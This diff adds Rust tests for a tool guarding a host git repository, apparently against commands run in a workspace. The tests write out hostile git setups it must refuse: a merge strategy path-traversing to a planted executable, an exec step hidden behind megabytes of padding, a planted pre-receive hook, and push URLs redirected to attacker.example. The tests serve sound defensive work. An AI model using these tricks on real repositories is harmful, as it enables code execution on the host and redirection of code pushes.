@@ -856,3 +856,118 @@ fn a_lock_the_host_holds_is_never_removed_by_a_call() {
     assert_eq!(out["stdout"], "removed\n", "{out:#}");
     assert!(repo.join(".git/index.lock").exists(), "{out:#}");
 }
+
+/// A repository with a cherry-pick stopped on a conflict (third attack pass's setup).
+fn stopped_cherry_pick(ws: &Ws) -> PathBuf {
+    let repo = ws.repo("");
+    let steps: &[&[&str]] = &[
+        &["checkout", "-q", "-b", "other"],
+        &["commit", "-q", "--allow-empty", "-m", "spacer"],
+    ];
+    for step in steps {
+        ws.git_ok(&repo, step);
+    }
+    std::fs::write(repo.join("README"), "other\n").unwrap();
+    ws.git_ok(&repo, &["commit", "-q", "-am", "b"]);
+    std::fs::write(repo.join("g"), "g\n").unwrap();
+    ws.git_ok(&repo, &["add", "g"]);
+    ws.git_ok(&repo, &["commit", "-q", "-m", "g"]);
+    ws.git_ok(&repo, &["checkout", "-q", "main"]);
+    std::fs::write(repo.join("README"), "main\n").unwrap();
+    ws.git_ok(&repo, &["commit", "-q", "-am", "c"]);
+    let _ = ws.git(&repo, &["cherry-pick", "other~1", "other"]);
+    assert!(repo.join(".git/sequencer").is_dir(), "no sequencer state");
+    repo
+}
+
+#[test]
+fn a_sequencer_strategy_on_its_sections_line_is_read_as_git_reads_it() {
+    // SPEC: TRUST-1 — third attack pass, F1: `[options] strategy = a/../x` is one line to a
+    // line checker and `options.strategy` to git, which then runs `git-merge-a/../x`.
+    if !ready() {
+        return;
+    }
+    let ws = Ws::new();
+    let repo = stopped_cherry_pick(&ws);
+    let plant = ws.plant();
+    let out = ws.command(&format!(
+        "mkdir -p git-merge-a && printf '#!/bin/sh\\n{plant}\\n' > .git/objects/ev && \
+         chmod +x .git/objects/ev && \
+         printf '[options] strategy = a/../.git/objects/ev\\n' > .git/sequencer/opts && echo set"
+    ));
+    assert_eq!(out["stdout"], "set\n", "{out:#}");
+    assert!(refused_text(&out).contains("sequencer/opts"), "{out:#}");
+    std::fs::write(repo.join("README"), "resolved\n").unwrap();
+    ws.git_ok(&repo, &["add", "README"]);
+    let _ = ws.git(&repo, &["cherry-pick", "--continue"]);
+    ws.assert_nothing_ran();
+}
+
+#[test]
+fn a_list_of_steps_too_long_to_read_whole_is_not_applied() {
+    // SPEC: TRUST-1 — third attack pass, F2: an `exec` step after megabytes of comments.
+    if !ready() {
+        return;
+    }
+    let ws = Ws::new();
+    let repo = ws.repo("");
+    for i in 0..2 {
+        std::fs::write(repo.join("n"), format!("{i}\n")).unwrap();
+        ws.git_ok(&repo, &["add", "n"]);
+        ws.git_ok(&repo, &["commit", "-q", "-m", &format!("n{i}")]);
+    }
+    let plant = ws.plant();
+    let out = ws.command(&format!(
+        "GIT_SEQUENCE_EDITOR='sed -i 1s/^pick/edit/' git rebase -q -i HEAD~2 && \
+         head -c 2097152 /dev/zero | tr '\\0' '#' >> .git/rebase-merge/git-rebase-todo && \
+         printf '\\nexec {plant}\\n' >> .git/rebase-merge/git-rebase-todo && echo stopped"
+    ));
+    assert_eq!(out["stdout"], "stopped\n", "{out:#}");
+    assert!(refused_text(&out).contains("git-rebase-todo"), "{out:#}");
+    let _ = ws.git(&repo, &["rebase", "--continue"]);
+    ws.assert_nothing_ran();
+}
+
+#[test]
+fn a_remote_may_not_lead_pushes_to_a_repository_the_command_could_have_made() {
+    // SPEC: TRUST-1 — third attack pass, F3 and F4: a push remote into a bare repository
+    // planted in the written-through objects directory (its pre-receive hook runs on the
+    // host's `git push`); a push URL, push refspecs, a fetch into refs/heads/, an existing
+    // remote re-pointed, and a repository-format change of an existing repository.
+    if !ready() {
+        return;
+    }
+    let ws = Ws::new();
+    let repo = ws.repo("");
+    ws.git_ok(
+        &repo,
+        &["remote", "add", "origin", "https://example.org/r.git"],
+    );
+    let plant = ws.plant();
+    let out = ws.command(&format!(
+        "git init -q --bare .git/objects/e.git && \
+         printf '#!/bin/sh\\n{plant}\\n' > .git/objects/e.git/hooks/pre-receive && \
+         chmod +x .git/objects/e.git/hooks/pre-receive && \
+         git config branch.main.pushremote \"$PWD/.git/objects/e.git\" && \
+         git config remote.origin.pushurl https://attacker.example/x.git && \
+         git config remote.origin.push :refs/heads/keep && \
+         git config --add remote.origin.fetch '+refs/heads/*:refs/heads/*' && \
+         git config remote.origin.url https://attacker.example/y.git && \
+         git config extensions.refstorage reftable && echo set"
+    ));
+    assert_eq!(out["stdout"], "set\n", "{out:#}");
+    let refused = refused_text(&out);
+    for key in [
+        "branch.main.pushremote",
+        "remote.origin.pushurl",
+        "remote.origin.push",
+        "remote.origin.fetch",
+        "remote.origin.url",
+        "extensions.refstorage",
+    ] {
+        assert!(refused.contains(key), "{key} not refused: {out:#}");
+    }
+    let _ = ws.git(&repo, &["push"]);
+    ws.git_ok(&repo, &["log", "-1"]);
+    ws.assert_nothing_ran();
+}
